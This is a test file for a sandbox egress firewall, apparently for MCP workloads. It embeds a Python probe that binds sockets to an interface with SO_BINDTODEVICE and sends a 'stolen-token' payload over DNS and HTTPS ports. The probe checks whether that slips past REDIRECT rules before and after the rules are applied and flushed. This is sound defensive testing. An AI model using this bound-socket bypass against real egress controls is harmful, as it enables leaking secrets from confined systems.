// A socket bound to an interface, which takes no capability: REDIRECT changes where its packets go, and not by which way they leave.

import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { applyRules } from '../../src/jail/rules/firewall.ts'
import { CLIENT, GATEWAY, type Namespace, networkTestsPossible } from '../support/netns.ts'
import {
  BACKENDS,
  createRuledNetwork,
  OPTIONS,
  PATIENCE,
  planned,
  PYTHON,
  type RuledNetwork,
  WORKLOAD,
} from './support/ruled-network.ts'

/** Sends to the neighbour from sockets bound to the interface that leads there; what the kernel says to it does not matter. */
const BOUND = `
import socket, sys
SO_BINDTODEVICE = 25
for host in sys.argv[2:]:
    family = socket.AF_INET6 if ':' in host else socket.AF_INET
    for kind, port in ((socket.SOCK_DGRAM, 53), (socket.SOCK_DGRAM, 443), (socket.SOCK_STREAM, 53), (socket.SOCK_STREAM, 443)):
        bound = socket.socket(family, kind)
        bound.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, sys.argv[1].encode())
        bound.settimeout(0.3)
        try:
            bound.connect((host, port)); bound.send(b'stolen-token')
        except OSError:
            pass
`

describe.runIf(networkTestsPossible).each(BACKENDS)('with %s, a socket bound to an interface', (backend) => {
  let ruled: RuledNetwork
  let outside: Namespace

  beforeEach(async () => {
    ruled = await createRuledNetwork(`bound-${backend}`)
    if (ruled.network.client === null) throw new Error('no client')
    outside = ruled.network.client
    await ruled.serve(ruled.network, [
      ['127.0.0.1', 15001, 'proxy'],
      ['::1', 15001, 'proxy'],
    ])
    // With a router to send to, as in a container; without one nobody answers for 127.0.0.1.
    for (const [family, via] of [
      ['-4', CLIENT.v4],
      ['-6', CLIENT.v6],
    ] as const) {
      await ruled.network.exec('ip', [family, 'route', 'add', 'default', 'via', via, 'dev', GATEWAY.interface])
    }
    // What waits for its neighbour to be found is sent later, and would be counted with what comes after.
    await ruled.probe(ruled.network, 0, [
      ['tcp', CLIENT.v4, 9],
      ['tcp', CLIENT.v6, 9],
    ])
    for (const tool of ['iptables', 'ip6tables']) {
      await outside.exec(tool, ['-t', 'raw', '-A', 'PREROUTING', '-p', 'udp', '-j', 'RETURN'])
      await outside.exec(tool, ['-t', 'raw', '-A', 'PREROUTING', '-p', 'tcp', '-j', 'RETURN'])
    }
  }, PATIENCE)
  afterEach(() => ruled.close())

  /** UDP and TCP packets that came out of the workload's network. */
  async function left(): Promise<number> {
    const sent = await ruled.network.exec(PYTHON, ['-c', BOUND, GATEWAY.interface, CLIENT.v4, CLIENT.v6], {
      uid: WORKLOAD,
    })
    if (sent.code !== 0) throw new Error(sent.stderr)
    let packets = 0
    for (const tool of ['iptables', 'ip6tables']) {
      const { stdout } = await outside.exec(tool, ['-t', 'raw', '-Z', '-L', 'PREROUTING', '-v', '-x', '-n'])
      for (const [, count] of stdout.matchAll(/^\s*(\d+)\s+\d+\s+RETURN/gm)) packets += Number(count)
    }
    return packets
  }

  it('gets nothing out, and would without the rule', { timeout: PATIENCE }, async () => {
    expect(await left()).toBeGreaterThan(0)
    applyRules(planned({ ...OPTIONS, dns: 'proxy' }), backend)
    expect(await left()).toBe(0)
    for (const family of ['ip', 'ip6'] as const) {
      const flush =
        backend === 'nft'
          ? ['nft', 'flush', 'chain', family, 'mcp_egress', 'MCP_EGRESS_LEAVING']
          : [`${family}tables${backend === 'legacy' ? '-legacy' : ''}`, '-t', 'mangle', '-F', 'MCP_EGRESS_LEAVING']
      const { code, stderr } = await ruled.network.exec(flush[0] ?? '', flush.slice(1))
      expect([code, stderr]).toEqual([0, ''])
    }
    expect(await left()).toBeGreaterThan(0)
  })
})
